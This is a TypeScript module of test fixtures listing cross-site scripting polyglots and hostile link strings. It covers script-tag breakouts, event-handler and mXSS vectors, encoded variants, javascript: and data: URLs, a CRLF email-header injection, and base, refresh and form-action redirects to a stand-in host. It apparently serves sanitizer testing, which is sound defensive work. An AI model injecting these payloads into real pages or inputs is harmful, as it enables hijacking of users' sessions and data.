/** Texts that run somewhere when they are not taken for text: HTML, attributes, scripts, JSON-LD, URLs, CSS, templates. */
export const POLYGLOTS: readonly string[] = [
  '<script>window.__pwn=1</script>',
  '"><img src=x onerror=window.__pwn=1>',
  "'><svg onload=window.__pwn=1>",
  '</script><script>window.__pwn=1</script>',
  '</title><script>window.__pwn=1</script>',
  '</textarea><script>window.__pwn=1</script>',
  '</style><script>window.__pwn=1</script>',
  '<!--<script>window.__pwn=1</script>-->',
  '<iframe srcdoc="<script>parent.__pwn=1</script>">',
  '<a href="javascript:window.__pwn=1">x</a>',
  '<details open ontoggle=window.__pwn=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1>',
  '<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=x>',
  '\u2028window.__pwn=1\u2029',
  '\u0024{window.__pwn=1}{{window.__pwn=1}}<%=window.__pwn=1%>',
  "';window.__pwn=1;//",
  '\\";window.__pwn=1;//',
  '`-window.__pwn=1-`',
  '&lt;script&gt;window.__pwn=1&lt;/script&gt;',
  '&#x3c;script&#x3e;window.__pwn=1&#x3c;/script&#x3e;',
  '%3Cscript%3Ewindow.__pwn=1%3C/script%3E',
  '\u003cscript\u003ewindow.__pwn=1\u003c/script\u003e',
  'expression(window.__pwn=1);background:url(javascript:window.__pwn=1)',
  '<b>{count, plural, one {<script>window.__pwn=1</script>}}</b>',
  '\r\nBcc: victim@evil.example\r\n\r\n<script>window.__pwn=1</script>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.__pwn=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwn=1//>',
  '\u202e<script>window.__pwn=1</script>\u202c',
]

/** The n-th text, round and round; short enough for any field. */
export const polyglot = (at: number): string => POLYGLOTS[at % POLYGLOTS.length] ?? ''

/** All of them in one. */
export const ALL_POLYGLOTS = POLYGLOTS.join(' ')

/** Links that a rich text could carry. */
export const HOSTILE_LINKS = [
  'javascript:window.__pwn=1',
  'JaVaScRiPt:window.__pwn=1',
  ' javascript:window.__pwn=1',
  'java\tscript:window.__pwn=1',
  'data:text/html,<script>window.__pwn=1</script>',
  'vbscript:window.__pwn=1',
  '//evil.example/"onclick="window.__pwn=1',
]
